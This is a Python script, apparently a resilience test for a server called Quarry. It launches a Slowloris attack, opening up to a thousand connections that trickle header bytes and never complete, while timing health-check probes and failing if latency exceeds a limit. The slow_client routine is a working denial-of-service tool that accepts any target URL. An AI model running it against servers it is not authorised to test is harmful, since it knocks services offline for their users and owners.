#!/usr/bin/env python3
"""Slowloris against a running Quarry: opens N connections that send request headers one
byte every INTERVAL seconds and never finish them (each reopened when the server cuts it
off), and while they are open asks for /healthz and / every half second. Prints how many
slow connections were open, how often the server cut them off, and the latency of the
probes; exits 1 if any probe failed or took longer than the limit.

    scripts/slowloris.py http://127.0.0.1:3000 [--connections 1000] [--interval 10]
                         [--seconds 40] [--limit 1.0]
"""
import argparse
import asyncio
import resource
import sys
import time
import urllib.parse


def raise_fd_limit(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, need + 256)) if hard != resource.RLIM_INFINITY else max(soft, need + 256)
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


class Stats:
    def __init__(self):
        self.open = 0
        self.peak_open = 0
        self.cut_off = 0
        self.connect_failures = 0


async def slow_client(host, port, interval, stop, stats):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats.connect_failures += 1
            await asyncio.sleep(0.5)
            continue
        stats.open += 1
        stats.peak_open = max(stats.peak_open, stats.open)
        try:
            writer.write(b"GET / HTTP/1.1\r\nHost: slowloris\r\n")
            await writer.drain()
            while not stop.is_set():
                # Wait for the next byte's turn, or for the server to close the connection.
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                    if not data:
                        stats.cut_off += 1
                        break
                except asyncio.TimeoutError:
                    pass
                writer.write(b"X")
                await writer.drain()
        except (OSError, ConnectionError):
            stats.cut_off += 1
        finally:
            stats.open -= 1
            writer.close()


async def probe(host, port, path):
    started = time.monotonic()
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout=5)
    writer.write(f"GET {path} HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n".encode())
    await writer.drain()
    head = await asyncio.wait_for(reader.readline(), timeout=5)
    await asyncio.wait_for(reader.read(), timeout=5)
    writer.close()
    elapsed = time.monotonic() - started
    status = int(head.split()[1]) if head.startswith(b"HTTP/") else 0
    return status, elapsed


def pct(values, p):
    values = sorted(values)
    return values[min(len(values) - 1, int(round(p / 100 * (len(values) - 1))))] if values else float("nan")


async def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("base")
    ap.add_argument("--connections", type=int, default=1000)
    ap.add_argument("--interval", type=float, default=10.0)
    ap.add_argument("--seconds", type=float, default=40.0)
    ap.add_argument("--limit", type=float, default=1.0)
    args = ap.parse_args()
    url = urllib.parse.urlparse(args.base)
    host, port = url.hostname, url.port or 80
    raise_fd_limit(args.connections + 64)

    stats = Stats()
    stop = asyncio.Event()
    clients = [asyncio.create_task(slow_client(host, port, args.interval, stop, stats)) for _ in range(args.connections)]
    # Let them connect before measuring.
    await asyncio.sleep(2)
    results = {"/healthz": [], "/": []}
    failures = []
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline:
        for path in results:
            try:
                status, elapsed = await probe(host, port, path)
                results[path].append(elapsed)
                if status != 200:
                    failures.append(f"{path}: status {status}")
            except (OSError, asyncio.TimeoutError, ConnectionError) as e:
                failures.append(f"{path}: {type(e).__name__} {e}")
        await asyncio.sleep(0.5)
    stop.set()
    for c in clients:
        c.cancel()
    await asyncio.gather(*clients, return_exceptions=True)

    print(f"slow connections: {args.connections} clients, a header byte every {args.interval:g} s for {args.seconds:g} s; "
          f"peak open {stats.peak_open}, cut off by the server {stats.cut_off} times, connect failures {stats.connect_failures}")
    worst = 0.0
    for path, times in results.items():
        ms = [t * 1000 for t in times]
        worst = max([worst] + times)
        print(f"  {path:<9} {len(times)} probes: p50 {pct(ms, 50):.1f} ms, p99 {pct(ms, 99):.1f} ms, max {max(ms or [0]):.1f} ms")
    for f in failures[:10]:
        print(f"  FAILED {f}")
    ok = not failures and worst <= args.limit and all(results.values())
    print("slowloris: " + ("ok" if ok else f"FAIL (limit {args.limit:g} s)"))
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(asyncio.run(main()))
